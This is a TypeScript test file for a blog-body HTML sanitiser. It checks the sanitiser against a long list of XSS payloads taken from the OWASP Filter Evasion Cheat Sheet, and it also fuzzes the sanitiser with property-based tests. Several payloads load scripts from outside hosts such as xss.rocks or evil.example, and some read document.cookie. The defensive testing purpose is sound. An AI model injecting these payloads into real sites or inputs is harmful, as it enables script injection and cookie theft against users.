// The blog body sanitiser against the OWASP XSS Filter Evasion Cheat Sheet: whatever goes in, what comes
// out holds no script, no event handler, no style, no script/data URL and no element outside the allowlist,
// also when parsed again; a well-formed post (headings, lists, links, images, quote) is kept as it is.
import { RICH_TEXT_ALLOWLIST } from '@vitrina/validation';
import fc from 'fast-check';
import sanitizeHtml from 'sanitize-html';
import { describe, expect, it } from 'vitest';
import { sanitizeRichText } from './rich-text.js';

// OWASP "XSS Filter Evasion Cheat Sheet" vectors (and a few of their well-known variants).
const OWASP_PAYLOADS: readonly string[] = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  '<script>alert("XSS")</script>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="jav&#x09;ascript:alert(1)">tab-split</a>',
  '<a href="&#106;avascript:alert(1)">entity</a>',
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  "\\\";alert('XSS');//",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="width: expression(alert(\'XSS\'));">styled</p>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<base href="http://evil.example/">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">X</button></form>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  '<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.rocks/xss.htc"><xss:xss>XSS</xss:xss></HTML>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<A HREF="http://66.102.7.147/" onclick="alert(1)">XSS</A>',
  '<A HREF="//www.google.com/">protocol relative</A>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="JaVaScRiPt:alert(1)" target="_blank">mixed case</a>',
  '<img src="x" onerror="alert(1)">',
  '<p onclick="alert(1)" class="x" id="y">attrs</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<a href="https://ok.example/" style="color:red">styled link</a>',
  '<img src="https://ok.example/a.png" width="100%" height="javascript:1">',
];

const SCRIPT_URL = /(?:java|vb)script\s*:|data\s*:/i;

/** Every element and attribute of `html` as a parser reads it. */
function parsed(html: string): { tag: string; attribs: Record<string, string> }[] {
  const elements: { tag: string; attribs: Record<string, string> }[] = [];
  sanitizeHtml(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    onOpenTag: (tag, attribs) => elements.push({ tag, attribs }),
  });
  return elements;
}

function expectSafe(output: string): void {
  expect(output).not.toMatch(/<script/i);
  expect(output).not.toMatch(/\son[a-z]+\s*=/i);
  expect(output).not.toMatch(/\sstyle\s*=/i);
  const tags: readonly string[] = RICH_TEXT_ALLOWLIST.tags;
  const attributes: Record<string, readonly string[]> = RICH_TEXT_ALLOWLIST.attributes;
  for (const { tag, attribs } of parsed(output)) {
    expect(tags).toContain(tag);
    for (const [name, value] of Object.entries(attribs)) {
      expect(attributes[tag] ?? []).toContain(name);
      expect(value).not.toMatch(SCRIPT_URL);
    }
  }
}

describe('sanitizeRichText (blog bodies; OWASP XSS filter evasion)', () => {
  it('has at least 40 cheat-sheet payloads', () => {
    expect(OWASP_PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(OWASP_PAYLOADS)('%s', (payload) => {
    const output = sanitizeRichText(payload);
    expectSafe(output);
    // A second pass changes nothing: what is stored is already clean.
    expect(sanitizeRichText(output)).toBe(output);
  });

  it('keeps the text of removed elements but not script or style content', () => {
    expect(sanitizeRichText('<div><span>Hello</span> <font>world</font></div>')).toBe('Hello world');
    expect(sanitizeRichText('<p>a<script>alert(1)</script>b<style>p{}</style>c</p>')).toBe('<p>abc</p>');
  });

  it('drops unsafe URLs but keeps the link text, and an image without a safe source', () => {
    expect(sanitizeRichText('<a href="javascript:alert(1)" target="_blank">menu</a>')).toBe('<a>menu</a>');
    expect(sanitizeRichText('<p><img src="javascript:alert(1)" alt="x"></p>')).toBe('<p></p>');
    expect(sanitizeRichText('<a href="//evil.example/">x</a><a href="relative">y</a>')).toBe('<a>x</a><a>y</a>');
  });

  it('keeps a well-formed post unchanged: headings, lists, links, images, quote, code', () => {
    const post = [
      '<h2>Our New Year menu</h2>',
      '<p>Twelve <strong>grapes</strong>, <em>cava</em> and <s>no</s> a tasting menu. <br />Book now.</p>',
      '<h3>Courses</h3>',
      '<ol><li>Soup</li><li>Fish</li></ol>',
      '<ul><li><a href="https://example.com/menu" title="The menu">Menu</a></li><li><a href="mailto:hola@example.com">Write</a></li><li><a href="tel:+34911222333">Call</a></li><li><a href="/contact-us">Contact</a></li></ul>',
      '<h4>Where</h4>',
      '<p><img src="https://assets.example.com/clients/7/table.webp" alt="Our table" width="640" height="480" /></p>',
      '<p><img src="/uploads/7/cover.webp" alt="" /></p>',
      '<blockquote><p>Best paella in town.</p></blockquote>',
      '<hr />',
      '<pre><code>2 × 12 = 24</code></pre>',
      '<p>Tom &amp; Jerry &lt;3</p>',
    ].join('');
    expect(sanitizeRichText(post)).toBe(post);
  });

  it('whatever the input, the output is safe and stable', () => {
    const pieces = fc.constantFrom(
      ...OWASP_PAYLOADS,
      '<p>',
      '</p>',
      '<a href="',
      '">',
      'text',
      '<img src=',
      'javascript:',
      '&#',
      ';',
      '"',
      "'",
      '<',
      '>',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        const output = sanitizeRichText(parts.join(''));
        expectSafe(output);
      }),
      { numRuns: 300 },
    );
  });
});
